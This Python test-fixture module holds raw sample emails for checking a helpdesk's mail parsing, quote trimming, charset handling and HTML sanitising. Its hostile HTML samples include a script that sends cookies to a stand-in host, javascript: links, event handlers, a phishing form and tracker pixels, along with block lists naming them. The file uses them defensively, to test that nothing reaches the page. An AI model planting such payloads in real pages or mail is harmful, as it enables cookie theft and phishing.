"""Real-shaped inbound messages, written byte for byte as the mail clients and servers write them.

Each sample: its name, its raw bytes, the text the desk must show (the first one in the ticket's
subject or visible body), the quoted history or signature trimmed off the visible body (kept in
the whole text behind "Show the full email"), strings that must never reach the page, whether a
machine wrote it, and the files stored from it (None: not checked here). ``big_message`` builds
the 40 MB one in the test instead of keeping 40 MB in the repository.
"""

from __future__ import annotations

import base64
import quopri
import struct
import textwrap
from dataclasses import dataclass


@dataclass(frozen=True)
class Sample:
    name: str
    raw: bytes
    shows: tuple[str, ...]
    never: tuple[str, ...] = ()
    automatic: bool = False
    hides: tuple[str, ...] = ()
    files: tuple[str, ...] | None = None


def _lines(*lines: str | bytes) -> bytes:
    return b"\r\n".join(line.encode("ascii") if isinstance(line, str) else line for line in lines) + b"\r\n"


def _head(n: int, subject: str = "Printer question", sender: str = "Grace Hopper <grace@example.org>") -> list[str]:
    return [
        f"From: {sender}",
        "To: Support <support@localhost>",
        f"Subject: {subject}",
        "Date: Mon, 30 Nov 2026 10:00:00 +0000",
        f"Message-ID: <corpus-{n}@mail.example.org>",
        "MIME-Version: 1.0",
    ]


def _b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii")


def _qp(text: str, charset: str = "utf-8") -> str:
    return quopri.encodestring(text.encode(charset)).decode("ascii")


ACK = "Hello Grace,\nWe've got your request and a person from our team will look at it."
ACK_QUOTED = "\n".join(f"> {line}" for line in ACK.splitlines())
QUOTED_WORDS = "a person from our team will look at it"  # in every quote of our acknowledgement


GMAIL_REPLY = _lines(
    *_head(1, "Re: We've got your request [HD-1001] Printer prints blank pages"),
    'Content-Type: multipart/alternative; boundary="000000000000a1b2c3"',
    "",
    "--000000000000a1b2c3",
    'Content-Type: text/plain; charset="UTF-8"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    quopri.encodestring("Thanks, the new driver fixed it \u2014 merci beaucoup!\n\n".encode()).decode(),
    "On Mon, 30 Nov 2026 at 09:12, Support <support@localhost> wrote:",
    "> Hello Grace,",
    "> We've got your request and a person from our team will look at it.",
    "",
    "--000000000000a1b2c3",
    'Content-Type: text/html; charset="UTF-8"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    '<div dir=3D"ltr">Thanks, the new driver fixed it =E2=80=94 merci beaucoup!</div><div class=3D"gmail_quote">=',
    "</div>",
    "--000000000000a1b2c3--",
)

OUTLOOK_REPLY = _lines(
    *_head(2, "RE: We've got your request [HD-1001] Printer prints blank pages"),
    "Thread-Topic: We've got your request [HD-1001] Printer prints blank pages",
    "Thread-Index: AQHZabcdEfGhIjKlMnOpQrStUvWxYz==",
    "X-MS-Has-Attach:",
    "X-MS-TNEF-Correlator:",
    'Content-Type: multipart/alternative; boundary="_000_DB9PR01MB1234_"',
    "",
    "--_000_DB9PR01MB1234_",
    'Content-Type: text/plain; charset="Windows-1252"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    "Yes, that=92s right =96 it still prints blank pages on the 2nd floor.",
    "",
    "Kind regards",
    "Grace",
    "",
    "________________________________",
    "From: Support <support@localhost>",
    "Sent: Monday, 30 November 2026 09:12",
    "To: Grace Hopper <grace@example.org>",
    "Subject: We've got your request [HD-1001] Printer prints blank pages",
    "",
    "Hello Grace,",
    "We've got your request and a person from our team will look at it.",
    "",
    "--_000_DB9PR01MB1234_",
    'Content-Type: text/html; charset="Windows-1252"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    '<html><head><style>p.MsoNormal{margin:0}</style></head><body><p class=3D"MsoNormal">Yes, that=92s right =',
    "=96 it still prints blank pages on the 2nd floor.<o:p></o:p></p></body></html>",
    "--_000_DB9PR01MB1234_--",
)

BASE64_UTF8 = _lines(
    *_head(3, "=?UTF-8?B?w5xiZXJ3ZWlzdW5n?="),
    "Content-Type: text/plain; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    _b64("Die Überweisung ist noch nicht angekommen.\n".encode()),
)

LATIN1 = _lines(
    *_head(4, "=?iso-8859-1?q?Caf=E9_machine?="),
    "Content-Type: text/plain; charset=iso-8859-1",
    "Content-Transfer-Encoding: 8bit",
    "",
    "La machine à café du 3e étage est en panne, señor.".encode("iso-8859-1"),
)

CP1252 = _lines(
    *_head(5),
    "Content-Type: text/plain; charset=windows-1252",
    "Content-Transfer-Encoding: 8bit",
    "",
    "The invoice says \u201c€40\u201d but I paid \u20ac35 \u2013 please check.".encode("cp1252"),
)

ISO2022JP = _lines(
    *_head(6, "=?ISO-2022-JP?B?" + base64.b64encode("注文について".encode("iso-2022-jp")).decode() + "?="),
    "Content-Type: text/plain; charset=ISO-2022-JP",
    "Content-Transfer-Encoding: 7bit",
    "",
    "こんにちは、注文がまだ届きません。".encode("iso-2022-jp"),
)

WRONG_CHARSET = _lines(
    *_head(7),
    "Content-Type: text/plain; charset=us-ascii",
    "Content-Transfer-Encoding: 8bit",
    "",
    "A naïve question about the résumé upload.".encode(),
)

MISSING_CHARSET = _lines(
    *_head(8),
    "Content-Type: text/plain",
    "Content-Transfer-Encoding: 8bit",
    "",
    "Viele Grüße aus Köln".encode("iso-8859-1"),
)

UNKNOWN_CHARSET = _lines(
    *_head(9),
    "Content-Type: text/plain; charset=x-no-such-charset",
    "",
    "Unknown charset but plain words.",
)

NO_MESSAGE_ID = _lines(
    "From: grace@example.org",
    "To: support@localhost",
    "Subject: No id here",
    "",
    "Sent by an old script without a Message-ID.",
)

HTML_ONLY = _lines(
    *_head(11, "Newsletter-style question"),
    "Content-Type: text/html; charset=utf-8",
    "",
    "<html><head><title>x</title><script>alert('head')</script></head><body>",
    "<p>Hello <b>team</b>,</p><p>my account is locked.</p>",
    "<script>document.location='https://evil.example/steal?c='+document.cookie</script>",
    '<img src="https://tracker.example/pixel.gif" alt="">',
    '<p><a href="javascript:alert(1)">click here</a> for details</p>',
    '<p>Screenshot: <a href="https://files.example.org/shot.png">this one</a>,',
    ' <a href="mailto:it@example.org">it@example.org</a></p>',
    '<div onmouseover="alert(2)">Thanks</div></body></html>',
)

OUT_OF_OFFICE = _lines(
    *_head(12, "Automatic reply: We've got your request [HD-1001]"),
    "Auto-Submitted: auto-replied",
    "X-Auto-Response-Suppress: All",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "I am out of the office until Monday with limited access to email.",
)

PDF_BYTES = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
WITH_ATTACHMENT = _lines(
    *_head(13, "Invoice attached"),
    'Content-Type: multipart/mixed; boundary="mixed"',
    "",
    "--mixed",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "Here is the invoice you asked for.",
    "--mixed",
    'Content-Type: application/pdf; name="invoice-42.pdf"',
    'Content-Disposition: attachment; filename="invoice-42.pdf"',
    "Content-Transfer-Encoding: base64",
    "",
    _b64(PDF_BYTES),
    "--mixed--",
)

REFUSED_EXE = _lines(
    *_head(14, "Please run this"),
    'Content-Type: multipart/mixed; boundary="mixed"',
    "",
    "--mixed",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "The installer crashes, I attach it.",
    "--mixed",
    'Content-Type: application/octet-stream; name="setup.exe"',
    'Content-Disposition: attachment; filename="setup.exe"',
    "Content-Transfer-Encoding: base64",
    "",
    _b64(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" * 8),
    "--mixed--",
)

# Replies, as each client quotes the message it answers.

APPLE_MAIL_REPLY = _lines(
    *_head(15, "Re: Printer question"),
    "Content-Type: text/plain; charset=utf-8",
    "Content-Transfer-Encoding: quoted-printable",
    "Mime-Version: 1.0 (1.0)",
    "In-Reply-To: <ack-1001@support.localhost>",
    "References: <ack-1001@support.localhost>",
    "X-Mailer: iPhone Mail (21A329)",
    "",
    _qp(
        "Yes, it is the HP on the 2nd floor.\n\nSent from my iPhone\n\n"
        "> On 30 Nov 2026, at 09:12, Support <support@localhost> wrote:\n>\n> \ufeff" + ACK_QUOTED[2:] + "\n"
    ),
)

THUNDERBIRD_REPLY = _lines(
    *_head(16, "Re: Printer question"),
    "User-Agent: Mozilla Thunderbird",
    "Content-Language: en-GB",
    "Content-Type: text/plain; charset=UTF-8; format=flowed",
    "Content-Transfer-Encoding: 8bit",
    "",
    "It works again since the restart, thank you. ",
    "The queue is empty now.",
    "",
    "On 30/11/2026 09:12, Support wrote:",
    ACK_QUOTED,
    "",
    "-- ",
    "Grace Hopper",
    "ACME Ltd · IT".encode(),
)

INTERLEAVED_REPLY = _lines(
    *_head(17, "Re: Printer question"),
    "User-Agent: Mozilla Thunderbird",
    "Content-Type: text/plain; charset=UTF-8; format=flowed",
    "Content-Transfer-Encoding: 7bit",
    "",
    "On 30/11/2026 09:12, Support wrote:",
    "> Which printer is it?",
    "",
    "The HP LaserJet on the 2nd floor.",
    "",
    "> Since when does it print blank pages?",
    "",
    "Since Friday's driver update.",
    "",
    "-- ",
    "Grace",
)

GMAIL_HTML_ONLY_REPLY = _lines(
    *_head(18, "Re: Printer question"),
    'Content-Type: text/html; charset="UTF-8"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    _qp(
        '<div dir="ltr">Thanks \u2014 the toner swap fixed it.<div><br></div><div>'
        '<span class="gmail_signature_prefix">-- </span><br><div dir="ltr" class="gmail_signature">Grace Hopper'
        '<br>ACME Ltd</div></div></div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, '
        "30 Nov 2026 at 09:12, Support &lt;support@localhost&gt; wrote:<br></div><blockquote "
        'class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);'
        'padding-left:1ex"><div>Hello Grace,</div><div>We&#39;ve got your request and a person from our team will '
        "look at it.</div></blockquote></div>\n"
    ),
)

THUNDERBIRD_HTML_ONLY_REPLY = _lines(
    *_head(19, "Re: Printer question"),
    "User-Agent: Mozilla Thunderbird",
    "Content-Type: text/html; charset=UTF-8",
    "Content-Transfer-Encoding: 8bit",
    "",
    "<!DOCTYPE html>",
    '<html><head><meta http-equiv="content-type" content="text/html; charset=UTF-8"></head><body>',
    "<p>The paper tray was empty after all. Sorry for the noise!</p>",
    '<div class="moz-cite-prefix">On 30/11/2026 09:12, Support wrote:<br></div>',
    '<blockquote type="cite" cite="mid:ack-1001@support.localhost">Hello Grace,<br>We\'ve got your request and a '
    "person from our team will look at it.</blockquote>",
    '<pre class="moz-signature" cols="72">-- ',
    "Grace Hopper</pre></body></html>",
)

OUTLOOK_MOBILE_REPLY = _lines(
    *_head(20, "Re: We've got your request [HD-1001]"),
    'Content-Type: multipart/alternative; boundary="_000_AM0PR_"',
    "",
    "--_000_AM0PR_",
    'Content-Type: text/plain; charset="us-ascii"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    "Done, I restarted it as you said.",
    "",
    "Get Outlook for iOS<https://aka.ms/o0ukef>",
    "________________________________",
    "From: Support <support@localhost>",
    "Sent: Monday, November 30, 2026 9:12:00 AM",
    "To: Grace Hopper <grace@example.org>",
    "Subject: We've got your request [HD-1001]",
    "",
    "Hello Grace,",
    "We've got your request and a person from our team will look at it.",
    "--_000_AM0PR_",
    'Content-Type: text/html; charset="us-ascii"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    '<html><body><div dir=3D"auto">Done, I restarted it as you said.</div><div id=3D"ms-outlook-mobile-signature">',
    'Get <a href=3D"https://aka.ms/o0ukef">Outlook for iOS</a></div></body></html>',
    "--_000_AM0PR_--",
)

OUTLOOK_FRENCH_REPLY = _lines(
    *_head(21, "RE: Imprimante"),
    'Content-Type: text/plain; charset="iso-8859-1"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    _qp(
        "Oui, c'est bien l'imprimante du 2e étage.\n\nCordialement,\nGrace\n\n"
        "De : Support <support@localhost>\nEnvoyé : lundi 30 novembre 2026 09:12\nÀ : Grace Hopper "
        "<grace@example.org>\nObjet : Imprimante\n\nBonjour Grace,\nNous avons bien reçu votre demande.\n",
        "iso-8859-1",
    ),
)

GMAIL_GERMAN_REPLY = _lines(
    *_head(22, "Re: Drucker"),
    'Content-Type: text/plain; charset="UTF-8"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    _qp(
        "Danke, jetzt druckt er wieder.\n\nAm Mo., 30. Nov. 2026 um 09:12 Uhr schrieb Support <\n"
        "support@localhost>:\n\n> Hallo Grace,\n> wir haben Ihre Anfrage erhalten.\n"
    ),
)

EVERYTHING_QUOTED = _lines(
    *_head(23, "Re: Printer question"),
    "Content-Type: text/plain; charset=utf-8",
    "",
    "On Mon, 30 Nov 2026 at 09:12, Support <support@localhost> wrote:",
    "> Please reply if the printer still prints blank pages.",
)

# Forwards: the forwarded message is what the customer sends us, so it stays visible.

GMAIL_FORWARD = _lines(
    *_head(24, "Fwd: Your invoice 42 is overdue"),
    'Content-Type: multipart/alternative; boundary="000000000000f0f0f0"',
    "",
    "--000000000000f0f0f0",
    'Content-Type: text/plain; charset="UTF-8"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    _qp(
        "Is this genuine? I paid last week.\n\n-- \nGrace\n\n"
        "---------- Forwarded message ---------\nFrom: Billing <billing@vendor.example>\n"
        "Date: Mon, 30 Nov 2026 at 08:00\nSubject: Your invoice 42 is overdue\nTo: <grace@example.org>\n\n\n"
        "Your invoice 42 of 35 \u20ac is overdue. Please pay within 7 days.\n"
    ),
    "--000000000000f0f0f0",
    'Content-Type: text/html; charset="UTF-8"',
    "",
    '<div dir="ltr">Is this genuine? I paid last week.</div>',
    "--000000000000f0f0f0--",
)

OUTLOOK_FORWARD = _lines(
    *_head(25, "FW: Delivery failed for order 7781"),
    'Content-Type: text/plain; charset="Windows-1252"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    _qp(
        "FYI \u2013 the courier says the parcel could not be delivered.\n\n"
        "________________________________\nFrom: Courier <noreply@courier.example>\n"
        "Sent: Monday, 30 November 2026 07:45\nTo: Grace Hopper <grace@example.org>\n"
        "Subject: Delivery failed for order 7781\n\nWe could not deliver parcel 7781: nobody was at home.\n",
        "cp1252",
    ),
)

APPLE_MAIL_FORWARD = _lines(
    *_head(26, "Fwd: Warranty"),
    "Content-Type: text/plain; charset=us-ascii",
    "Content-Transfer-Encoding: 7bit",
    "Mime-Version: 1.0 (Mac OS X Mail 16.0)",
    "",
    "Please see below, is this covered?",
    "",
    "Begin forwarded message:",
    "",
    "From: Shop <orders@shop.example>",
    "Subject: Warranty",
    "Date: 29 November 2026 at 18:00:00 GMT",
    "To: Grace Hopper <grace@example.org>",
    "",
    "Your printer's warranty runs until March 2027.",
)

THUNDERBIRD_FORWARD = _lines(
    *_head(27, "Fwd: Error report"),
    "User-Agent: Mozilla Thunderbird",
    "Content-Type: text/plain; charset=UTF-8; format=flowed",
    "Content-Transfer-Encoding: 7bit",
    "",
    "The log the printer mailed me this morning.",
    "",
    "",
    "-------- Forwarded Message --------",
    "Subject: \tError report",
    "Date: \tMon, 30 Nov 2026 06:00:00 +0000",
    "From: \tPrinter <hp-2f@example.org>",
    "To: \tgrace@example.org",
    "",
    "Error 49.4C02: paper path jam.",
)

# Charsets and transfer encodings.

LATIN1_AS_UTF8 = _lines(
    *_head(28, "Adresse"),
    "Content-Type: text/plain; charset=utf-8",
    "Content-Transfer-Encoding: 8bit",
    "",
    "Mon adresse a changé : 12 rue de l'Église, Genève.".encode("iso-8859-1"),
)

QP_LATIN1 = _lines(
    *_head(29, "=?ISO-8859-1?Q?R=FCcksendung?="),
    "Content-Type: text/plain; charset=ISO-8859-1",
    "Content-Transfer-Encoding: quoted-printable",
    "",
    _qp("Ich möchte die Rücksendung für Bestellung 7781 anmelden. " * 3 + "Grüße", "iso-8859-1"),
)

FACTURA = "<html><body><p>La factura dice 40\u20ac, pero pagué 35\u20ac \u2013 ¿podéis revisarlo?</p></body></html>"
BASE64_HTML_CP1252 = _lines(
    *_head(30, "Factura"),
    "Content-Type: text/html; charset=windows-1252",
    "Content-Transfer-Encoding: base64",
    "",
    _b64(FACTURA.encode("cp1252")),
)

# Very long headers: hundreds of recipients, a 2,000-character subject, a long thread's References.

RECIPIENTS = [f"Colleague {n} <colleague{n}@example.org>" for n in range(400)]
LONG_RECIPIENTS = _lines(
    "From: Grace Hopper <grace@example.org>",
    "To: Support <support@localhost>,\r\n " + ",\r\n ".join(RECIPIENTS[:250]),
    "Cc: " + ",\r\n ".join(RECIPIENTS[250:]),
    "Subject: Printer on every floor",
    "Date: Mon, 30 Nov 2026 10:00:00 +0000",
    "Message-ID: <corpus-31@mail.example.org>",
    "MIME-Version: 1.0",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "Sent to the whole building: no printer works since Friday.",
)

LONG_SUBJECT_WORDS = " ".join(f"word{n:04d}" for n in range(223))[:2000]
LONG_SUBJECT = _lines(
    "From: Grace Hopper <grace@example.org>",
    "To: support@localhost",
    "Subject: " + "\r\n ".join(textwrap.wrap(LONG_SUBJECT_WORDS, 70)),  # folded at spaces, as clients fold
    "Date: Mon, 30 Nov 2026 10:00:00 +0000",
    "Message-ID: <corpus-32@mail.example.org>",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "My mail client let me write a very long subject.",
)

LONG_REFERENCES = _lines(
    *_head(33, "Re: Re: Re: Printer question"),
    "In-Reply-To: <thread-299@mail.example.org>",
    "References: " + "\r\n ".join(f"<thread-{n}@mail.example.org>" for n in range(300)),
    "Content-Type: text/plain; charset=utf-8",
    "",
    "Three hundred messages later, it still prints blank pages.",
)

# Files: Outlook's winmail.dat, inline images referred to by cid:.


def _tnef_record(level: int, attribute: int, data: bytes) -> bytes:
    return struct.pack("<BII", level, attribute, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)


def tnef(files: list[tuple[str, bytes]]) -> bytes:
    """A winmail.dat as Outlook writes it: version, code page, then per file its rendering, title and data."""
    out = struct.pack("<IH", 0x223E9F78, 0x0001)
    out += _tnef_record(1, 0x00089006, struct.pack("<I", 0x00010000))  # attTnefVersion
    out += _tnef_record(1, 0x00069007, struct.pack("<II", 1252, 0))  # attOemCodepage
    for name, data in files:
        out += _tnef_record(2, 0x00069002, struct.pack("<HIIHI", 1, 0xFFFFFFFF, 0, 1, 0))  # attAttachRendData
        out += _tnef_record(2, 0x00018010, name.encode("cp1252") + b"\0")  # attAttachTitle
        out += _tnef_record(2, 0x0006800F, data)  # attAttachData
    return out


SIGNED_FORM = b"%PDF-1.5\n% signed form\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
WINMAIL_DAT = _lines(
    *_head(34, "Signed form"),
    "X-MS-Has-Attach: yes",
    "X-MS-TNEF-Correlator: <DB9PR01MB1234.eurprd01.prod.exchangelabs.com>",
    'Content-Type: multipart/mixed; boundary="_002_DB9PR01MB1234_"',
    "",
    "--_002_DB9PR01MB1234_",
    'Content-Type: text/plain; charset="us-ascii"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    "Please find the signed form attached.",
    "--_002_DB9PR01MB1234_",
    'Content-Type: application/ms-tnef; name="winmail.dat"',
    'Content-Disposition: attachment; filename="winmail.dat"',
    "Content-Transfer-Encoding: base64",
    "",
    _b64(tnef([("signed-form.pdf", SIGNED_FORM)])),
    "--_002_DB9PR01MB1234_--",
)

PNG_BYTES = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(64))
JPEG_BYTES = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(64))
INLINE_IMAGES = _lines(
    *_head(35, "Screenshot of the error"),
    'Content-Type: multipart/related; boundary="rel"; type="multipart/alternative"',
    "",
    "--rel",
    'Content-Type: multipart/alternative; boundary="alt"',
    "",
    "--alt",
    'Content-Type: text/plain; charset="us-ascii"',
    "",
    "See the error below.",
    "",
    "[cid:image001.png@01DA1234.56789AB0]",
    "",
    "Thanks",
    "--alt",
    'Content-Type: text/html; charset="us-ascii"',
    "",
    '<p>See the error below.</p><p><img src="cid:image001.png@01DA1234.56789AB0" width="300"></p>',
    '<p><img src="cid:5F1A7C2E-3B4D@apple.example"></p><p>Thanks</p>',
    "--alt--",
    "--rel",
    'Content-Type: image/png; name="image001.png"',
    "Content-Description: image001.png",
    'Content-Disposition: inline; filename="image001.png"; size=80',
    "Content-ID: <image001.png@01DA1234.56789AB0>",
    "Content-Transfer-Encoding: base64",
    "",
    _b64(PNG_BYTES),
    "--rel",
    "Content-Type: image/jpeg",
    "Content-Transfer-Encoding: base64",
    "Content-ID: <5F1A7C2E-3B4D@apple.example>",
    "",
    _b64(JPEG_BYTES),
    "--rel--",
)

# An HTML-only message that tries everything HTML can do; nothing of it may reach the page.

HTML_HOSTILE = _lines(
    *_head(36, "Account question"),
    "Content-Type: text/html; charset=utf-8",
    "",
    '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/style.css">',
    "<style>body{background:url(https://tracker.example/bg.png)} .x{behavior:url(https://evil.example/x.htc)}</style>",
    '</head><body onload="alert(7)">',
    '<p style="background-image:url(https://tracker.example/p.gif);width:expression(alert(3))">Styled words stay.</p>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<form action="https://evil.example/phish"><input name="password" value="x"></form>',
    '<svg onload="alert(4)"><circle r="1"/></svg>',
    '<img src="x" onerror="alert(5)"><img src="https://tracker.example/open.gif?id=42">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">a data link</a>',
    '<a href=" JaVaScRiPt:alert(8)">a sneaky link</a>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">',
    "<p>Please unlock my account.</p></body></html>",
)

OUT_OF_OFFICE_X_AUTOREPLY = _lines(
    *_head(37, "Abwesenheitsnotiz: Printer question"),
    "X-Autoreply: yes",
    "Content-Type: text/plain; charset=utf-8",
    "Content-Transfer-Encoding: 8bit",
    "",
    "Ich bin bis 7. Dezember nicht im Büro.".encode(),
)


def big_message(size: int = 40 * 1024 * 1024 - 4096) -> bytes:
    """A message of about ``size`` bytes (just under the 40 MB the HTTP intake takes): a few words and
    one huge attachment, base64 as a mail client sends it (about 30 MB once decoded)."""
    head = _lines(
        *_head(38, "Full backup of my laptop"),
        'Content-Type: multipart/mixed; boundary="big"',
        "",
        "--big",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "The backup you asked for is attached.",
        "--big",
        'Content-Type: application/zip; name="backup.zip"',
        'Content-Disposition: attachment; filename="backup.zip"',
        "Content-Transfer-Encoding: base64",
        "",
    )
    line = base64.b64encode(b"PK\x03\x04" + bytes(53)) + b"\r\n"  # 76 characters a line, as encoders write
    return head + line * ((size - len(head)) // len(line)) + b"--big--\r\n"


# The desk page has its own <script src=... nonce=...> tags; the customer's bare one must not appear.
UNSAFE = ("<script>", "javascript:", "alert(", "evil.example", "tracker.example", "onmouseover")
HOSTILE = (
    *UNSAFE, "JaVaScRiPt", "onload", "onerror", "expression(", "url(https", "<iframe", "<object", "<embed",
    "data:text/html", "<base", "http-equiv", "name=\"password\"",
)  # fmt: skip
SIGNATURE = ("Grace Hopper",)

CORPUS = [
    Sample(
        "gmail-reply",
        GMAIL_REPLY,
        ("the new driver fixed it \u2014 merci beaucoup!",),
        hides=("On Mon, 30 Nov 2026 at 09:12, Support", QUOTED_WORDS),
    ),
    Sample(
        "outlook-reply",
        OUTLOOK_REPLY,
        ("Yes, that\u2019s right \u2013 it still prints blank pages", "Kind regards\nGrace"),
        hides=("Sent: Monday, 30 November 2026 09:12", QUOTED_WORDS),
    ),
    Sample(
        "apple-mail-reply",
        APPLE_MAIL_REPLY,
        ("Yes, it is the HP on the 2nd floor.",),
        hides=("Sent from my iPhone", QUOTED_WORDS),
    ),
    Sample(
        "thunderbird-reply",
        THUNDERBIRD_REPLY,
        ("It works again since the restart, thank you.", "The queue is empty now."),
        hides=("On 30/11/2026 09:12, Support wrote:", QUOTED_WORDS, "ACME Ltd · IT"),
    ),
    Sample(
        "interleaved-reply",
        INTERLEAVED_REPLY,
        ("The HP LaserJet on the 2nd floor.", "Which printer is it?", "Since Friday's driver update."),
        hides=("-- \nGrace",),
    ),
    Sample(
        "gmail-html-only-reply",
        GMAIL_HTML_ONLY_REPLY,
        ("Thanks \u2014 the toner swap fixed it.",),
        hides=(*SIGNATURE, QUOTED_WORDS),
    ),
    Sample(
        "thunderbird-html-only-reply",
        THUNDERBIRD_HTML_ONLY_REPLY,
        ("The paper tray was empty after all. Sorry for the noise!",),
        hides=(*SIGNATURE, QUOTED_WORDS),
    ),
    Sample(
        "outlook-mobile-reply",
        OUTLOOK_MOBILE_REPLY,
        ("Done, I restarted it as you said.",),
        hides=("Get Outlook for iOS", QUOTED_WORDS),
    ),
    Sample(
        "outlook-french-reply",
        OUTLOOK_FRENCH_REPLY,
        ("Oui, c'est bien l'imprimante du 2e étage.",),
        hides=("Envoyé : lundi 30 novembre", "Nous avons bien reçu votre demande."),
    ),
    Sample(
        "gmail-german-reply",
        GMAIL_GERMAN_REPLY,
        ("Danke, jetzt druckt er wieder.",),
        hides=("schrieb Support", "wir haben Ihre Anfrage erhalten."),
    ),
    Sample(
        "everything-quoted",
        EVERYTHING_QUOTED,
        ("Please reply if the printer still prints blank pages.",),  # never trimmed to nothing
    ),
    Sample(
        "gmail-forward",
        GMAIL_FORWARD,
        ("Is this genuine? I paid last week.", "Your invoice 42 of 35 \u20ac is overdue.", "From: Billing"),
        hides=("-- \nGrace",),
    ),
    Sample(
        "outlook-forward",
        OUTLOOK_FORWARD,
        ("FYI \u2013 the courier says", "We could not deliver parcel 7781: nobody was at home."),
    ),
    Sample(
        "apple-mail-forward",
        APPLE_MAIL_FORWARD,
        ("Please see below, is this covered?", "Your printer's warranty runs until March 2027."),
    ),
    Sample(
        "thunderbird-forward",
        THUNDERBIRD_FORWARD,
        ("The log the printer mailed me this morning.", "Error 49.4C02: paper path jam."),
    ),
    Sample("base64-utf8", BASE64_UTF8, ("Die Überweisung ist noch nicht angekommen.", "Überweisung")),
    Sample("iso-8859-1", LATIN1, ("La machine à café du 3e étage est en panne, señor.", "Café machine")),
    Sample("quoted-printable-iso-8859-1", QP_LATIN1, ("Ich möchte die Rücksendung für Bestellung 7781", "Rücksendung")),
    Sample("windows-1252", CP1252, ("The invoice says \u201c€40\u201d but I paid €35 \u2013 please check.",)),
    Sample(
        "base64-html-windows-1252",
        BASE64_HTML_CP1252,
        ("La factura dice 40€, pero pagué 35€ \u2013 ¿podéis revisarlo?",),
    ),
    Sample("iso-2022-jp", ISO2022JP, ("こんにちは、注文がまだ届きません。", "注文について")),
    Sample("wrong-charset", WRONG_CHARSET, ("A naïve question about the résumé upload.",)),
    Sample("utf-8-declared-latin-1-sent", LATIN1_AS_UTF8, ("Mon adresse a changé : 12 rue de l'Église, Genève.",)),
    Sample("missing-charset", MISSING_CHARSET, ("Viele Grüße aus Köln",)),
    Sample("unknown-charset", UNKNOWN_CHARSET, ("Unknown charset but plain words.",)),
    Sample("no-message-id", NO_MESSAGE_ID, ("Sent by an old script without a Message-ID.",)),
    Sample("long-recipients", LONG_RECIPIENTS, ("Sent to the whole building: no printer works since Friday.",)),
    Sample(
        "long-subject", LONG_SUBJECT, (LONG_SUBJECT_WORDS[:200], "My mail client let me write a very long subject.")
    ),
    Sample("long-references", LONG_REFERENCES, ("Three hundred messages later, it still prints blank pages.",)),
    Sample(
        "html-only",
        HTML_ONLY,
        (
            "Hello team,\n\nmy account is locked.",
            "click here for details",
            "Screenshot: this one (https://files.example.org/shot.png), it@example.org",
        ),
        UNSAFE,
    ),
    Sample(
        "html-hostile",
        HTML_HOSTILE,
        ("Please unlock my account.", "Styled words stay.", "a data link", "a sneaky link"),
        HOSTILE,
        files=(),
    ),
    Sample("out-of-office", OUT_OF_OFFICE, ("I am out of the office until Monday",), automatic=True),
    Sample(
        "out-of-office-x-autoreply",
        OUT_OF_OFFICE_X_AUTOREPLY,
        ("Ich bin bis 7. Dezember nicht im Büro.",),
        automatic=True,
    ),
    Sample(
        "attachment",
        WITH_ATTACHMENT,
        ("Here is the invoice you asked for.", "invoice-42.pdf"),
        files=("invoice-42.pdf",),
    ),
    Sample(
        "refused-exe",
        REFUSED_EXE,
        ("The installer crashes, I attach it.", "Attachment refused: setup.exe (not an allowed type)"),
        files=(),
    ),
    Sample(
        "winmail-dat",
        WINMAIL_DAT,
        ("Please find the signed form attached.", "signed-form.pdf"),
        files=("signed-form.pdf",),
    ),
    Sample(
        "inline-images",
        INLINE_IMAGES,
        ("See the error below.", "image001.png", "attachment.jpg"),
        ('src="cid:', "<img"),  # the images are files to download, never shown in the page
        files=("image001.png", "attachment.jpg"),
    ),
]
